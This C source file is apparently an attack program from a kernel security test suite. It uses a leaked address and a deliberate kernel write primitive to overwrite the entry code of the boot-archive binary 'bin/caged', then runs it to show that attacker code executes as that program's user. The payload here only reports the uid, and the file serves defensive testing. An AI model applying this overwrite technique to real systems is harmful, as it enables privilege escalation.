/* A program of the boot archive runs as a user of its own, whoever starts it: its code is
 * overwritten where the archive lies. */
#include <elf.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define VICTIM "bin/caged"
enum { UID_BASE = 1000 };

/* Exits with its uid, less UID_BASE. */
extern const char payload[], payload_end[];
__asm__(".section .rodata\n.balign 8\n.globl payload, payload_end\n"
	"payload:\n mov $102, %eax\n syscall\n mov %eax, %edi\n sub $1000, %edi\n"
	" mov $231, %eax\n syscall\n .balign 8\npayload_end:\n.text\n");

/* Where the file has the instruction that it starts with. */
static uint64_t entry_offset(uint64_t file)
{
	Elf64_Ehdr header;
	Elf64_Phdr segment;

	attack_read(file, &header, sizeof(header));
	for (unsigned int i = 0; i < header.e_phnum; i++) {
		attack_read(file + header.e_phoff + i * sizeof(segment), &segment, sizeof(segment));
		if (segment.p_type == PT_LOAD &&
		    header.e_entry - segment.p_vaddr < segment.p_filesz) {
			return segment.p_offset + header.e_entry - segment.p_vaddr;
		}
	}
	attack_skip(VICTIM " starts nowhere");
}

int main(void)
{
	struct bw_leak leak;
	uint64_t file, code, behind;
	int status = 0;

	attack_leak(&leak);
	file = attack_archive_find(&leak, VICTIM);
	if (file == 0) {
		attack_skip("there is no " VICTIM);
	}
	code = leak.archive_alias + file + entry_offset(leak.archive + file);
	attack_say("%s starts with what the direct map would have at 0x%lx", VICTIM, code);
	for (size_t at = 0; at < (size_t)(payload_end - payload); at += sizeof(uint64_t)) {
		uint64_t word;

		memcpy(&word, payload + at, sizeof(word));
		attack_check("vuln_write", bw_vuln_write(code + at, word));
	}
	/* the code stays: with this it is other bytes than what an earlier run left there */
	behind = code + (size_t)(payload_end - payload);
	attack_check("vuln_write",
		     bw_vuln_write(behind, (uint64_t)bw_vuln_read(behind - leak.archive_alias +
								  leak.archive) +
						   1));
	if (fork() == 0) {
		execl("/" VICTIM, VICTIM, (char *)NULL);
		_exit(1);
	}
	wait(&status);
	attack_say("code of the attacker's ran there as uid %d", UID_BASE + WEXITSTATUS(status));
	return attack_finish();
}
